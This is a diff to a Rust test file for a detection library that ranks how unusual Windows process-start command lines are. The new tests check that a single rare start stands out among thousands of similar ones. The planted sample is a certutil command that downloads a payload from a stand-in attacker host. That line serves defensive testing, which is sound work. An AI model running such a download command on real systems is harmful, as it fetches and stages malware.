@@ -4,7 +4,10 @@
 #![allow(clippy::unwrap_used, reason = "a test that fails may panic")]
 
 use nblt::ext::polars::prelude::{Column, DataFrame, NamedFrom, Series};
-use nblt::{LogonSessionRarity, Session, Show, decode_in, iocs_in, logon_session_rarity};
+use nblt::{
+    ColumnMap, LogonSessionRarity, Needs, NoveltyParameters, Role, Session, Show, decode_in, iocs_in,
+    logon_session_rarity,
+};
 
 /// Process starts (4688): a row of time, process id, parent's id and command line each; the rest is the same.
 fn frame(rows: &[(Option<&str>, &str, &str, Option<&str>)]) -> DataFrame {
@@ -188,6 +191,53 @@ fn undated_and_repeated_rows_are_counted_where_they_are_shown() {
     assert_eq!(tree.n_processes(), 2);
     let report = found.report().to_text();
     assert!(report.contains("in the same words: both count here, a tree shows each once"), "{report}");
+}
+
+#[test]
+fn thousands_of_starts_that_differ_in_a_word_do_not_bury_an_attack() {
+    let mut lines: Vec<String> = (0..5_000).map(|it| format!("cmd.exe /c echo {}", letters(it))).collect();
+    lines.push("certutil -urlcache -f http://evil.example/payload a.exe".to_owned());
+    let rows: Vec<_> = lines.iter().map(|it| (AT, "0x10", "0x4", Some(it.as_str()))).collect();
+    let found = logon_session_rarity(&frame(&rows)).unwrap();
+    let novel = found.novel_starts().unwrap();
+    let first = novel.frame().unwrap();
+    assert!(first.column("CommandLine").unwrap().str().unwrap().get(0).unwrap().starts_with("certutil"));
+    let scores: Vec<f64> = first.column("Novelty").unwrap().f64().unwrap().iter().flatten().collect();
+    assert!(scores[0] > 0.5 && scores[1..].iter().all(|it| *it < 0.3), "{:?}", &scores[..3]);
+    assert!(!novel.report().to_text().contains("too high"));
+    assert!((0..5_001).all(|it| novel.uncertainty(it) == 0.0));
+}
+
+#[test]
+fn novelty_with_parameters_of_ones_own() {
+    // Each has words of others, and no two are alike.
+    let lines: Vec<String> = (0..300)
+        .map(|it| format!("tool p{} q{} r{}", letters(it % 20), letters(it / 20), letters(it * 7 % 31)))
+        .collect();
+    let rows: Vec<_> = lines.iter().map(|it| (AT, "0x10", "0x4", Some(it.as_str()))).collect();
+    let found = logon_session_rarity(&frame(&rows)).unwrap();
+    let few = NoveltyParameters { compared: 4, ..NoveltyParameters::default() };
+    let novel = found.novel_starts_with(&few).unwrap();
+    let text = novel.report().to_text();
+    assert!(text.contains("the novelty may be up to 0.") && text.contains("too high"), "{text}");
+    assert!((0..300).any(|it| novel.uncertainty(it) > 0.0) && novel.uncertainty(300) == 0.0);
+    let wrong = NoveltyParameters { neighbours: 0, ..few };
+    let error = found.novel_starts_with(&wrong).unwrap_err();
+    assert!(error.is_input() && error.to_string().contains("neighbours is 0"), "{error}");
+    // A baseline in columns of its own.
+    let mut baseline = frame(&rows[..40]);
+    baseline.rename("CommandLine", "What".into()).unwrap();
+    let columns = ColumnMap::infer(&frame(&rows[..40]), Needs::Rarity).with(Role::CommandLine, "What");
+    let one = NoveltyParameters { neighbours: 1, ..NoveltyParameters::default() };
+    let against = found.novel_starts_against_with(&baseline, &columns, &one).unwrap().frame().unwrap();
+    let known =
+        against.column("Novelty").unwrap().f64().unwrap().iter().filter(|it| *it == Some(0.0)).count();
+    assert_eq!(known, 40);
+}
+
+/// A number in letters, so that it is not folded.
+fn letters(number: usize) -> String {
+    number.to_string().bytes().map(|it| char::from(it - b'0' + b'k')).collect()
 }
 
 #[test]
